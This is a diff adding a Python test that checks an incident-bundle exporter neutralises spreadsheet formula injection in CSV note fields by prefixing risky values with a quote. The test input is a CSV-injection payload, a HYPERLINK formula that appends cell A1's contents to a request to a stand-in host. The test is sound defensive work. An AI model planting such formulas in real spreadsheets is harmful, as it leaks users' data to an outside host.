@@ -3,6 +3,8 @@ tampering is found and named precisely."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import re
 import stat
@@ -93,6 +95,24 @@ def test_the_csv_has_a_row_per_event_with_the_exact_names(bundle_path, material)
     assert text.count("\r\n") == material.event_count + 1
     for name in NAMES:
         assert name in text
+
+
+def test_text_that_a_spreadsheet_would_run_as_a_formula_is_shown_as_text_in_the_csv(material, key, tmp_path):
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    incident = material.incidents[0]
+    events = list(incident.events)
+    events[1] = replace(events[1], note=formula)
+    events[2] = replace(events[2], note="- asked to stop, and did")
+    changed = replace(material, incidents=(replace(incident, events=tuple(events)),))
+    path = build_bundle(changed, key).write(tmp_path / "b.zip")
+    files = read_zip(path)
+    rows = list(csv.DictReader(io.StringIO(files[CSV].decode("utf-8-sig"))))
+    assert rows[1]["note"] == "'" + formula
+    assert rows[2]["note"] == "'- asked to stop, and did"
+    assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())
+    notes = [e["note"] for e in json.loads(files[EVENTS])["events"]]
+    assert notes[1] == formula and notes[2] == "- asked to stop, and did"  # the exact text
+    assert verify_bundle(path) == []
 
 
 def test_the_manifest_names_the_request_its_legal_basis_and_the_key(bundle_path, key):
